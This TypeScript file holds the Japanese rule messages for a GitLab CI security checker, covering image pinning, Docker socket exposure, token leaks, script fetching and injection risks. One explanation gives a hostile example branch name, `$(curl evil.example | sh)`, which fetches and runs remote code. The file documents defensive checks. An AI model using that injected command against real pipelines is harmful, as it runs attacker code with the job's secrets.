// biome-ignore-all lint/style/noExcessiveLinesPerFile: one entry a rule, in one file a language.
/** What the rules say, in Japanese (日本語). Keywords and names of settings stay as they are. */
import type { TranslatedRules } from './words.ts';

/** `refusalMessages` of the rules, for イメージ and サービス. */
function refused<const What extends string>(what: What) {
  return {
    denied: `${what} {value} はポリシーで禁止されています（拒否リストの {pattern} に一致）。`,
    'not-listed': `${what} {value} はポリシーで許可されていません。`,
    nearest: `${what} {value} はポリシーで許可されていません。{nearest} は許可されています。`,
    'runner-refuses': `${what} {value} はランナーで許可されていないため、ジョブは失敗します。ランナーの出力: {sentence}`,
  } as const;
}

export const japaneseRules: TranslatedRules = {
  'image-not-allowed': {
    why: 'イメージの中身はジョブの認証情報を使って実行されます。監査済みのイメージだけを使ってください。',
    fix: '許可リストのイメージを使うか、このイメージの追加を依頼してください。',
    messages: refused('イメージ'),
  },
  'service-not-allowed': {
    why: 'サービスはジョブと同じネットワークと変数を使って動きます。監査済みのイメージだけを使ってください。',
    fix: '許可リストのサービスイメージを使うか、このイメージの追加を依頼してください。',
    messages: refused('サービス'),
  },
  'image-not-evaluable': {
    why: 'どのイメージが使われ、どのランナーで動くのか、実行前に確認できません。',
    fix: '値を直接書くか、変数を設定画面ではなく設定ファイルで定義してください。',
    messages: {
      image: '{variables} の値が不明なため、イメージ {value} を判定できません。',
      service: '{variables} の値が不明なため、サービス {value} を判定できません。',
      'pull-policy': '{variables} の値が不明なため、プルポリシー {value} を判定できません。',
      tag: '{variables} の値が不明なため、タグ {value} からはジョブのランナーを特定できません。',
    },
  },
  'image-not-pinned': {
    why: 'タグが再度プッシュされると、監査したものとは別のイメージが動きます。',
    fix: 'バージョンを指定してください。ダイジェストも付けるとより確実です: `ruby:3.4.7@sha256:…`',
    messages: {
      'no-tag': '{value} にはバージョンの指定がなく、実行時点の `latest` が使われます。',
      mutable: '{value} のタグ {tag} は、指すイメージが変わることがあります。',
      'no-digest': '{value} には、ポリシーが求めるダイジェストの指定がありません。',
    },
  },
  'image-user-root': {
    why: 'コンテナの root は、カーネルやランタイムの欠陥が一つあればマシンの root になります。',
    fix: '権限のないユーザーを指定するか、ユーザーの指定をイメージに任せてください。',
    messages: {
      root: 'イメージ {image} が root ユーザー（{value}）で実行されます。',
      'not-listed': 'イメージ {image} のユーザー {value} はポリシーで許可されていません（許可: {allowed}）。',
      'runner-refuses':
        'ユーザー {value} は、このジョブを受け取るどのランナークラス（{runner}）でも許可されていないため、ジョブは失敗します: {sentence}',
    },
  },
  'pull-policy-not-allowed': {
    why: 'マシンに残っているイメージは、プル権限の確認なしに使われます。非公開イメージの漏えいや、すり替えにつながります。',
    fix: '`always` だけを指定してください。変更のないイメージが再ダウンロードされることはありません。',
    messages: {
      'not-listed': 'プルポリシー {value} はポリシーで許可されていません（許可: {allowed}）。',
      reused: 'プルポリシー {value} では、他のプロジェクトが共有ランナーに残したイメージが使われます。',
      fallback:
        '{first} が失敗すると、プルポリシー {value} により、他のプロジェクトが共有ランナーに残したイメージが使われます。',
      fails: 'プルポリシー {value} はランナーで許可されていないため、ジョブは失敗します。ランナーの出力: {sentence}',
    },
  },
  'docker-socket-used': {
    why: 'このデーモンを操作できると、マシンの root として、他のジョブのコンテナ、変数、ファイルをすべて見られます。',
    fix: 'rootless BuildKit か Buildah でビルドするか、ジョブを分離するランナークラス（Sysbox、またはジョブごとの仮想マシン）を使ってください。',
    messages: {
      host: '{variable} の {value} は、ジョブが動くマシンの Docker デーモンです。',
      socket: '{value} は、ジョブが動くマシンの Docker デーモンに接続します。',
      command: '{value} は、ジョブが動くマシンの Docker デーモンを操作します。ジョブ専用のデーモンはありません。',
    },
  },
  'docker-in-docker': {
    why: 'このデーモンには特権コンテナが必要で、その中の root は、他のジョブも動くマシンの root と同じです。',
    fix: 'rootless BuildKit か Buildah でビルドするか、ジョブを分離するランナークラス（Sysbox、またはジョブごとの仮想マシン）を使ってください。',
    messages: {
      service: 'サービス {value} は、ジョブを分離しないランナーで Docker デーモンを起動します。',
      image: 'ジョブのイメージ {value} は、ジョブを分離しないランナーで Docker デーモンを起動します。',
    },
  },
  'docker-tls-disabled': {
    why: 'TLS がないと、同じネットワークにあるものはすべて、デーモンの特権コンテナの root になれます。',
    fix: '`DOCKER_TLS_CERTDIR` は `/certs` のままにし、ポート 2376 に接続してください。レジストリには例外設定ではなく証明書を用意してください。',
    messages: {
      certificates: '{name} が空のため、Docker デーモン {daemon} は証明書を作らず、要求もしません。',
      port: '{name} の {value} は、TLS を使わない Docker デーモンのポートです。',
      option: 'Docker デーモン {daemon} が {value} 付きで起動されます。',
    },
  },
  'privileged-container': {
    why: 'このようなコンテナはデーモンのあるマシンの root と同じで、そのマシンでは他のジョブも動きます。',
    fix: '必要な権限だけをコンテナに与えるか、ジョブを分離するランナークラス（Sysbox、またはジョブごとの仮想マシン）を使ってください。',
    messages: {
      option: '{command} の {value} は、コンテナにマシンの権限を与えます。',
      mount: '{command} は、マシンの {value} をコンテナにマウントします。',
      machine: '{value} は、ジョブが動くマシンそのものを操作します。',
    },
  },
  'shell-runner-used': {
    why: 'shell や ssh のランナーのジョブは同じユーザーで動くため、互いのファイルを読んだり書き換えたりできます。',
    fix: 'ジョブごとにコンテナか仮想マシンを起動するランナークラスを選んでください。',
    messages: { found: 'ジョブがランナークラス {value}（Executor: {executor}）で動く可能性があります。' },
  },
  'git-strategy-reuses-checkout': {
    why: '他のジョブがチェックアウトに残した Git フック、設定、無視ファイルが、このジョブに影響します。',
    fix: '`GIT_STRATEGY: clone` を設定してください。',
    messages: {
      fetch: '{variable} が {value} のため、前のジョブが残したチェックアウトを再利用します。',
      project:
        '{variable} の指定がなく、プロジェクトの設定が {value} のため、前のジョブが残したチェックアウトを再利用します。',
      unknown:
        '前のジョブのチェックアウトを再利用する可能性があります。{variable} の指定がなく、プロジェクトの設定を Pipewarden が参照できません。',
      variable: '前のジョブのチェックアウトを再利用する可能性があります。{variable} の {value} の値が不明です。',
    },
  },
  'git-submodules-exposed': {
    why: '次のジョブから非公開のサブモジュールも見え、前のジョブがサブモジュールに加えた変更もこのジョブに影響します。',
    fix: '`GIT_STRATEGY: clone` を設定するか、共有ランナーのジョブではサブモジュールを使わないでください。',
    messages: {
      variable: '{name} が {value} ですが、このチェックアウトは他のジョブも再利用します。',
      command: '{value} は、他のジョブも再利用するチェックアウトにサブモジュールを取得します。',
    },
  },
  'script-from-network': {
    why: 'このアドレスや通信経路を握る人は、ジョブの変数と権限を使って任意のコマンドを実行できます。',
    fix: 'スクリプトをリポジトリかイメージに入れるか、実行前にチェックサムを照合してください。',
    messages: {
      piped: '{value} からの内容が、確認なしに {program} で実行されます。',
      downloaded: '{value} からダウンロードした {file} が、チェックサムの確認なしに実行されます。',
      unpacked: '{value} の内容が、チェックサムの確認なしに、プログラムの置かれる {folder} に展開されます。',
      installed: '{value} が、チェックサムの確認なしにインストールされます。',
    },
  },
  'script-not-readable': {
    why: '読めないコマンドはレビューできません。その内容はほかのどのルールにも分かりません。',
    fix: 'コマンドをスクリプトに直接書くか、リポジトリ内のスクリプトに入れて呼び出してください。',
    messages: {
      named: '{value} がコマンドとして実行されますが、どのコマンドなのかは実行時にしか分かりません。',
      evaluated: '{command} が {value} を実行しますが、その内容は実行時にしか分かりません。',
      piped: '{command} が {value} の出力を実行しますが、その内容は実行時にしか分かりません。',
      decoded: '{command} が、{value} でデコードしたテキストを実行します。',
      open: 'スクリプトが途中で終わっています（{value}）。実際に実行されるコマンドは見た目と異なるかもしれません。',
      long: 'このテキストは {value} 文字を超えるため、それ以降は検査されていません。',
    },
  },
  'package-source-added': {
    why: 'そのパッケージはジョブの権限で動きますが、誰が公開できるのかは確認されていません。',
    fix: '必要なものを監査済みのイメージに入れるか、ポリシーの管理者が運用するミラーを使ってください。',
    messages: {
      source: '{command} がパッケージの取得元 {value} を追加します。',
      key: '{command} がパッケージの署名鍵を追加します。',
      unchecked: '{command} の {value} は、出所を確認せずにパッケージをインストールします。',
    },
  },
  'crypto-mining': {
    why: '盗まれたランナーの主な用途が暗号資産の採掘です。採掘できる状態なら、ほかの何でも実行できます。',
    fix: '取り除いたうえで、誰が追加したのか、ほかに何が変更されたのかを確認してください。',
    messages: {
      miner: '{value} は暗号資産の採掘プログラムに関するものです。',
      hidden: 'エンコードされたテキストに、採掘プログラムに関する {value} が含まれています。',
    },
  },
  'include-not-pinned': {
    why: '参照先にプッシュできる人は、ここでのマージリクエストなしに、このプロジェクトで動くものを変更できます。',
    fix: '`ref` やバージョンにはリリースタグかコミットを、リモートファイルには https と `integrity` ハッシュを使ってください。',
    messages: {
      default: '{address} のインクルードに ref の指定がなく、デフォルトブランチに追従します。',
      branch: '{address} のインクルードが、リリースタグでもコミットでもない {value} に追従します。',
      version: '{address} のコンポーネントのバージョン {value} は、リリースのたびに変わります。',
      unclear: '{address} のインクルードの {value} がリリースタグか、動くものかは、その形からは判断できません。',
      integrity: 'リモートファイル {address} に integrity ハッシュがなく、その時点の内容がそのまま使われます。',
      plain: 'リモートファイル {address} は http で取得されるため、通信経路上の誰でもすり替えられます。',
    },
  },
  'include-not-allowed': {
    why: 'インクルードされたファイルは、このプロジェクトの変数とトークンを使って、プロジェクト自身のファイルと同じように動きます。',
    fix: '信頼できるプロジェクトのファイルを使うか、このプロジェクトにコピーするか、アドレスの追加を依頼してください。',
    messages: {
      foreign: '{value} のインクルードは、この GitLab インスタンスの外を参照しています。',
      'not-listed': '{value} のインクルードはポリシーで許可されていません。',
    },
  },
  'include-not-evaluable': {
    why: 'このファイルの内容が確認されないままパイプラインに入るか、パイプラインが作成できなくなります。',
    fix: 'アドレスを修正するか、ファイルのあるプロジェクトへのアクセス権を Pipewarden のユーザーに付与してください。',
    fixFor: {
      refused: 'アドレスかファイルを修正してください。それまで GitLab はパイプラインを作成しません。',
      generated: 'ファイルを生成するジョブを確認するか、ジョブをリポジトリのファイルに書いてください。',
      offline:
        'GITLAB_URL と GITLAB_TOKEN（スコープ `read_api` で足ります）を設定すると読み取れます。GitLab 付属のテンプレートはフォルダーからも読めます: `--templates`',
    },
    messages: {
      refused: 'GitLab はこのインクルードを受け付けません: {problem}',
      unreadable: 'このインクルードを読み取れないため、その内容は判定していません: {problem}',
      offline: 'このインクルードの内容は判定していません: {problem}',
      several: '{count} 件のインクルードを読み取れないため、その内容は判定していません。最初のもの: {problem}',
      generated: 'このファイルはパイプラインの実行中にジョブが生成するため、その内容は判定していません: {value}',
    },
  },
  'runner-not-allowed': {
    why: '特権ランナーや専用ランナーを誰のブランチからでも使えると、その権限を全員に与えることになります。',
    fix: 'このプロジェクトに提供されているランナーのタグを使うか、`rules` でジョブを保護ブランチに限定してください。',
    messages: {
      'not-offered': 'タグ {value} が選ぶランナークラスは、このプロジェクトには提供されていません。',
      privileged:
        'ジョブが特権ランナークラス {runner} で動く可能性があり、保護されていないブランチのパイプラインでも実行されます。',
      'not-listed': 'タグ {value} はポリシーで許可されていません（許可: {allowed}）。',
      'user-chosen': 'タグ {value} では、ブランチやマージリクエストの名前を付ける人がランナーを選べます。',
    },
  },
  'runner-override': {
    why: 'プロジェクトを分離するためのランナー管理者の設定が、このファイルを変更できる人に上書きされます。',
    fix: 'この変数を削除し、ジョブに必要なことはランナーの管理者に相談してください。',
    messages: {
      kubernetes: '{name} は、ランナー管理者による {what} の設定を上書きします。',
      custom: '{name} は、ジョブの外で動く Custom Executor のスクリプトに読み込まれます。',
      flag: '{name} の {value} は、ジョブ間の分離を弱めます。',
      credentials: 'ファイルに書かれた {name} の認証情報は誰でも読め、ランナーはそれを使ってイメージをプルします。',
      files: '{name} により、セキュアファイルが {value} に置かれます。',
      path: '{name} の {value} は、ランナーがクリーンアップするフォルダーの外です。',
      clean: '{name} が {value} のため、前のジョブが残したファイルがこのジョブに影響します。',
    },
  },
  'debug-trace-enabled': {
    why: 'ログを閲覧できる人全員に機密情報が見えます。マスキングですべてを隠せるわけではありません。',
    fix: '変数を削除するか `false` にし、必要な実行のときだけ手動で設定してください。',
    messages: {
      trace: '{name} が {value} のため、ジョブの変数がすべてログに表示されます。',
      services: '{name} が {value} のため、サービスの出力が機密情報も含めてログに表示されます。',
    },
  },
  'variable-injection': {
    why: '`$(curl evil.example | sh)` のようなブランチ名やタイトルが、ジョブの変数と権限を使って実行されてしまいます。',
    fix: '値は引数として渡してください: `bash -c \'… "$1"\' _ "$CI_COMMIT_REF_NAME"`',
    messages: {
      argument: '{value} が、{program} がコマンドとして実行するテキストに含まれています。',
      input:
        '{input} を通じて、GitLab が {value} の内容をスクリプト自体に埋め込むため、シェルを介さずにコマンドになり得ます。',
      document: '{value} が、{program} がコマンドとして実行するヒアドキュメントに含まれています。',
    },
  },
  'secret-in-configuration': {
    why: 'プロジェクトを閲覧できる人全員に見え、フォークやクローンにも含まれます。行を消しても履歴に残ります。',
    fix: 'まず失効させ、新しいものをマスク・保護された CI/CD 変数かシークレットマネージャーに保存してください。',
    messages: { literal: '{value} は平文で書かれた認証情報です（{kind}）。' },
  },
  'invisible-text': {
    why: 'レビューする人が見るものと GitLab が実行するものが、このような文字によって食い違います。',
    fix: 'その文字を削除するか、行を入力し直してください。',
    messages: {
      reordered: 'この行の {value} は表示の順序を変えるため、人が読む内容と GitLab が読む内容が異なります。',
      invisible: 'この行の {value} は目に見えませんが、GitLab はこれも読み込みます。',
      break: 'この行の {value} は、GitLab にとっては改行ですが、改行として表示されません。',
    },
  },
  'include-steered': {
    why: 'ある ref でレビューされた設定が、別の ref の古い設定、作りかけの設定、そのために書かれた設定に置き換わります。',
    fix: 'ファイル、ref、プロジェクトは値を直接書くか、`rules` で選択してください。',
    messages: {
      include: '{value} が include の {key} に含まれているため、その値を決める人が、実行される設定を選べます。',
      trigger:
        '{value} がトリガーの {key} に含まれているため、その値を決める人が、他のプロジェクトで起動するパイプラインを選べます。',
    },
  },
  'environment-from-branch': {
    why: '変数やエージェントは環境の名前ごとに与えられます。ブランチを `production` と名付けるだけで、本番専用のものが手に入ります。',
    fix: '`review/$CI_COMMIT_REF_SLUG` のように固定の名前を先頭に付けるか、ジョブを保護されたブランチでだけ実行してください。',
    messages: {
      whole:
        '環境 {environment} は {value} の値そのものなので、その値を決める人が、ジョブに渡るシークレットを選べます。',
      start: '環境 {environment} は {value} で始まるため、その値を決める人が、ジョブに渡るシークレットを選べます。',
    },
  },
  'scanner-weakened': {
    why: 'パイプラインは検査済みに見えますが、スキャナーが見つけるはずだった問題がそのままマージされます。',
    fix: 'この設定を取り除いてください。本当に不要なスキャナーは、誰にでも分かるように、テンプレートごと外してください。',
    messages: {
      disabled: '{name} が {value} のため、{scanner} は実行されません。',
      never: '{scanner} は実行されません。この rules では、どのパイプラインにも入りません。',
      manual: '{scanner} は、誰かが手動で開始したときにしか実行されません。',
      excluded: '{name} が {value} のため、{scanner} はすべてを対象外にします。',
      image: '{scanner} はテンプレートのスキャナーではなく、イメージ {value} を実行します。',
      script: '{scanner} はテンプレートの処理ではなく、このプロジェクトのスクリプトを実行します。',
      ended: '{scanner} は何も検出しません。スキャンの前に {value} がジョブを終わらせます。',
    },
  },
  'image-malformed': {
    why: 'ジョブはランナーを待った後、最初のコマンドの前に失敗します。',
    fix: '`registry/repository:tag` の形で、小文字で、タグは一つだけ、スキームなしで書いてください。',
    messages: {
      scheme:
        'イメージ {value} がスキーム（{scheme}）で始まっていますが、イメージ名にスキームはないため、ジョブは失敗します。',
      uppercase:
        'イメージ {value} のリポジトリに大文字が含まれています。どのレジストリも受け付けないため、ジョブは失敗します。',
      malformed: '{value} をイメージ名として受け付けるコンテナランタイムはないため、ジョブは失敗します。',
    },
  },
  'job-token-leaves': {
    why: 'トークンを持つ人は、ジョブの実行中、ジョブを開始した人として非公開プロジェクトの参照、イメージのプッシュ、パッケージの公開ができます。',
    fix: '相手のホストには、保護およびマスクされた変数か `id_tokens` で専用のトークンを渡し、アーティファクトにはトークンを書き込まないでください。',
    messages: {
      sent: '{program} が {value} を {host} に送信しますが、このホストはこの GitLab のものではありません。',
      address: '{value} を含むアドレスの {host} は、この GitLab のものではありません。',
      login: '{program} が {value} で {host} にログインしますが、このホストはこの GitLab のものではありません。',
      artifact: '{value} が、アーティファクトとして保存される {file} に書き込まれます。',
    },
  },
  'verification-off': {
    why: '通信経路上の誰でも代わりに応答でき、送信されるトークンを読み、ダウンロードされる内容を選べます。',
    fix: '正しい認証局（`--cacert`、`GIT_SSL_CAINFO`、`NODE_EXTRA_CA_CERTS`）かホスト鍵（`known_hosts`）をジョブに渡してください。',
    messages: {
      option: '{value} を付けると、{program} は応答した相手を確認せずに信頼します。',
      variable: '{name} が {value} のため、ジョブの通信相手は検証されません。',
      file: '{value} が {file} に書き込まれるため、応答した相手が確認なしに信頼されます。',
    },
  },
  'id-token-open': {
    why: 'このトークンを受け取った側は、それがサービスの一つであっても、他のすべてのサービスでジョブになりすませます。',
    fix: 'サービスごとに専用のトークンを用意し、`aud` にはそのサービスのアドレスを指定してください。',
    messages: {
      any: 'ID トークン {token} の audience が {value} で、一つのサービスに限定されていません。',
      several: 'ID トークン {token} は複数のサービス（{value}）で有効なため、どのサービスも他のサービスで使えます。',
      chosen: 'ID トークン {token} の audience が {value} のため、その値を決める人が、信頼するサービスを選べます。',
    },
  },
  'cache-shared': {
    why: 'ブランチにプッシュできる人なら誰でもキャッシュに好きなものを入れられ、保護されたブランチの次のジョブが、シークレットを持ったままそれを実行します。',
    fix: '`unprotect` と、`-non_protected` で終わる予備のキーを外してください。GitLab は保護されたブランチのキャッシュを分けて保存します。',
    messages: {
      unprotect: '{value} により、保護されたブランチのジョブが、どのブランチでも書き込めるキャッシュを使います。',
      fallback:
        '{name} が {value} のため、保護されたブランチのジョブが、どのブランチでも書き込めるキャッシュを使うことがあります。',
    },
  },
  'needs-project-moving': {
    why: 'そこにプッシュできる人なら誰でも、このプロジェクトのマージリクエストなしに、このジョブが展開して実行するものを変更できます。',
    fix: '`ref` にリリースタグを指定するか、チェックサムの分かっているパッケージをダウンロードしてください。',
    messages: {
      branch: '{project} のアーティファクトを {value} から取得しますが、これはリリースタグではありません。',
      chosen: '{project} のアーティファクトを {value} から取得するため、その値を決める人が取得元を選べます。',
    },
  },
  'text-to-assistant': {
    why: 'その文章を書いた人が、ジョブのツール、変数、トークンを使って何をするかをアシスタントに指示できます。',
    fix: 'アシスタントにツールやトークンを与えず、メンバーが書いた、または確認したものだけを扱わせてください。',
    messages: {
      variable: '{value} が、{program} への指示の一部になります。',
      output: '{value} の出力は他の人が書いたものですが、{program} への指示になります。',
    },
  },
  'artifact-exposes': {
    why: 'アーティファクトは、パイプラインを閲覧できる人なら誰でも、ジョブの後も長くダウンロードでき、中身はマスクされません。',
    fix: '必要なファイルだけを一つずつ指定し、閲覧できる人を `access` で制限してください。',
    messages: {
      file: 'アーティファクトに {value} が含まれます。シークレットがよく置かれる場所です。',
      public: '公開されるアーティファクトに {value} が含まれます。シークレットがよく置かれる場所です。',
      everything: '{value} は、`.git` を含むプロジェクトのフォルダー全体をアーティファクトとして保存します。',
      environment: '{program} が、アーティファクトとして保存される {value} に、ジョブのすべての変数を書き込みます。',
    },
  },
  'deploy-in-merge-request': {
    why: '誰もレビューしていないものがデプロイされ、そのための認証情報が、マージリクエストを作成できる人なら誰の手にも届きます。',
    fix: '変更内容の表示（`terraform plan`、`kubectl diff`）にとどめ、デプロイはマージ後に行ってください。認証情報は保護されたブランチに限定してください。',
    messages: {
      found: '{value} が、マージ前にマージリクエストのパイプラインで実行されます。',
    },
  },
  'secret-on-command-line': {
    why: '引数はプロセス一覧、トレース、エラーメッセージに現れます。ファイルに残ったものは、後で動くものに読まれます。',
    fix: '標準入力（`--password-stdin`）かファイルで渡してください。Git には認証情報ヘルパーを、クラウドには `id_tokens` を使ってください。',
    messages: {
      argument: 'シークレット {value} が {program} の引数になっており、マシンのどのプロセスからも読めます。',
      git: '{value} を含むアドレスが Git の設定に残り、後のコマンドやジョブから読めます。',
      static: '{name} の値 {value} は有効なままの鍵です。クラウドは代わりにジョブの ID トークンを受け付けます。',
    },
  },
  'function-not-pinned': {
    why: 'そこにプッシュできる人なら誰でも、このプロジェクトのマージリクエストなしに、このジョブで動くものを変更できます。',
    fix: '数字をすべて指定したリリース、ダイジェスト、またはコミットを使ってください。',
    messages: {
      none: 'CI 関数 {value} にはバージョンの指定がありません。',
      moving: 'CI 関数 {address} のバージョン {value} は、指す先が変わります。',
    },
  },
  'function-not-allowed': {
    why: 'CI 関数は、プロジェクトのスクリプトと同じく、ジョブの変数と権限を使って動きます。',
    fix: '許可リストの CI 関数を使うか、この CI 関数の追加を依頼してください。',
    messages: {
      foreign: 'CI 関数 {value} は、この GitLab インスタンスの外から取得されます。',
      'not-listed': 'CI 関数 {value} はポリシーで許可されていません。',
    },
  },
  'input-unconstrained': {
    why: '入力を渡す側は、他のプロジェクトであれ新しいパイプラインのフォームであれ、コマンドやイメージを選べます。',
    fix: '`options` か `regex` を付けるか、number か boolean として宣言するか、スクリプトには `posix_escape` を付けて入れてください。',
    messages: {
      found: '入力 {value} はどんなテキストも受け付け、{keyword} の一部になります。',
    },
  },
  'component-required': {
    why: 'スキャンやライセンス確認など、管理者がすべてのパイプラインに求めるものが、抜け落ちるか別の動作をします。',
    fix: '必要なものを include し、そのジョブは変更しないでください。',
    messages: {
      include: 'ポリシーで必須の {value} が include されていません。',
      job: 'ポリシーで必須のジョブ {value} がありません。',
      overridden: 'ジョブ {job} はポリシーで変更が認められていませんが、{value} がここで設定されています。',
    },
  },
  'tool-not-pinned': {
    why: 'パッケージを乗っ取った人やリポジトリにプッシュできる人は、ジョブでコードを実行し、そのシークレットを読めます。',
    fix: 'バージョンを指定するか（`x@1.4.2`、`x==1.4.2`、`--branch v1.4.2`）、ツールをジョブのイメージに入れてください。',
    messages: {
      tool: '{program} は、ジョブの実行時点で最新のバージョンの {value} を取得します。',
      clone: 'ここでビルドされるのは、固定されていない {value} の最新の状態です。',
    },
  },
  'protected-reach': {
    why: 'これらに新しく届くようになったジョブは、問題があるとは限りませんが、ほかの変更より注意して見る価値があります。',
    fix: '環境、ランナー、サービスの責任者に確認してもらってください。',
    messages: {
      environment: 'ジョブが、ポリシーで保護対象とされている環境 {value} で実行されます。',
      token: 'ジョブが、他のサービスが信頼する ID トークン {value} を受け取ります。',
      runner: 'ジョブが、保護されたブランチとタグ専用のランナー {value} で実行されます。',
    },
  },
  custom: {
    why: 'このインスタンスの管理者が求めている項目です。',
    fix: 'メッセージのとおりに対応するか、ポリシーの管理者に相談してください。',
    messages: { found: '{policy_words} ポリシーのチェック {name} が {value} を認めていません。' },
  },
  'runner-config-privileged': {
    why: 'ジョブを実行できる人は誰でもマシンの root になり、ほかの利用者のジョブとシークレットを見られます。',
    fix: '`privileged = false` にするか、`allowed_privileged_images` と `allowed_privileged_services` で制限するか、ジョブごとにマシンを用意してください。',
    messages: {
      jobs: '{value} により、すべてのジョブがランナーのマシンの root になります。',
      services: '{value} により、ジョブのすべてのサービスがランナーのマシンの root になります。',
      everything: '{list} のパターン {value} により、すべてのイメージがランナーのマシンの root になれます。',
    },
  },
  'runner-config-docker-socket': {
    why: 'どの場合も、ジョブがマシンを乗っ取れます。コンテナの起動、他のジョブのシークレットの閲覧、実行内容の改変が可能です。',
    fix: 'この設定を削除し、イメージは rootless BuildKit か Buildah、または Sysbox で分離されたランナーでビルドしてください。',
    messages: {
      socket: 'ボリューム {value} により、マシンのコンテナを動かすデーモンがすべてのジョブに渡されます。',
      folder: 'ボリューム {value} により、システムのフォルダーがすべてのジョブに渡されます。',
      device: 'マシンのデバイス {value} がすべてのジョブに渡されます。',
      right: '{setting} の {value} により、すべてのジョブにマシンの権限が与えられます。',
    },
  },
  'runner-config-pull-policy': {
    why: 'マシンに残っているイメージは、プル権限の確認なしに使われます。非公開イメージの漏えいや、すり替えにつながります。',
    fix: '`pull_policy` と `allowed_pull_policies` には `always` だけを指定してください。変更のないイメージが再ダウンロードされることはありません。',
    messages: {
      reused: 'プルポリシー {value} では、他のプロジェクトがランナーに残したイメージが使われます。',
      fallback:
        '{first} が失敗すると、プルポリシー {value} により、他のプロジェクトがランナーに残したイメージが使われます。',
      allowed: 'ジョブが選べるプルポリシー {value} では、他のプロジェクトがランナーに残したイメージが使われます。',
      unset:
        'Runner 18.0 より前の Kubernetes では、{setting} なしに {value} を指定すると、すべてのジョブが失敗します。',
    },
  },
  'runner-config-images-open': {
    why: '回避できないのはランナー側のリストだけです。また、誤ったパターンは警告なしに無視されます。',
    fix: 'ジョブに必要なイメージとサービスを、レジストリ名を付けて `allowed_images` と `allowed_services` に列挙してください。',
    messages: {
      allowed_images: '{value} がないため、ジョブはどのイメージでも使えます。',
      allowed_services: '{value} がないため、ジョブはどのイメージでもサービスとして使えます。',
      everything: '{list} のパターン {value} は、すべてのイメージを許可します。',
      pattern: '{list} のパターン {value} に問題があります: {fault}',
    },
  },
  'runner-config-executor': {
    why: 'ジョブがマシンに残したものを、次のジョブが自分の変数、トークン、権限を使って実行してしまいます。',
    fix: 'ジョブごとにコンテナかマシンを起動する Executor を選び、ssh では `known_hosts_file` を指定し、特権マシンは一度だけ使ってください。',
    messages: {
      shell: 'Executor {value} は、すべてのジョブをマシンの同じユーザーで実行します。',
      'host-key': '{value} がないため、ランナーは偽のマシンにもジョブとシークレットを渡す可能性があります。',
      unchecked: '{value} により、ランナーは偽のマシンにもジョブとシークレットを渡す可能性があります。',
      machines: '特権ジョブはマシンを乗っ取れますが、{value} により同じマシンを複数のジョブ（{count}）が使います。',
    },
  },
  'runner-config-sysbox': {
    why: 'Sysbox を前提にすると、ジョブは root で動きます。それが安全なのは Sysbox の中だけです。',
    fix: '`privileged = false` にしてください。Sysbox のコンテナでは Docker がそのまま動きます。GitLab Runner は 14.4.0 以降を使ってください。',
    messages: {
      privileged: 'ランタイム {runtime} の分離では {value} は不要で、設定すると分離の一部が失われます。',
      'old-runner': 'Runner {version} はランタイム {value} を使わずにサービスを起動します。14.4.0 で修正されています。',
    },
  },
  'runner-config-token': {
    why: 'リポジトリを、履歴も含めて閲覧できる人は、このランナーのジョブとそのシークレットをすべて受け取れます。',
    fix: 'トークンを取り除き、GitLab でリセットし、デプロイ時に設定するようにしてください。',
    messages: {
      token: 'ランナーの {value} がリポジトリに書かれています。',
      credential: 'ランナーの認証情報 {value} がリポジトリに書かれています。',
    },
  },
  'runner-config-tls': {
    why: '通信経路上の誰でも、すべてのジョブのソースとシークレットを読み、実行内容を変更できます。',
    fix: 'https と `tls_verify = true` を使ってください。プライベート認証局は、検証を無効にせず `tls-ca-file` に指定してください。',
    messages: {
      http: 'ランナーは {address} と TLS なしで通信します。',
      skipped: '{value} により、ランナーは通信相手を確認しません。',
      daemon: '{value} がないため、{address} までの経路上の誰でも Docker デーモンを操作できます。',
    },
  },
  'policy-file': {
    why: '有効でないポリシーは適用されません。最後に有効だった版が使われ続け、新しい版を読んだだけではそれがわかりません。',
    fix: 'その行を修正してください。プッシュする前に `pipewarden policy validate` でも同じことを確認できます。',
    messages: {
      'not-valid': 'この版のポリシーは適用されません: {problem}',
      'hardly-meant': 'ポリシーとしては許されますが、意図したものではないと思われます: {problem}',
    },
  },
};
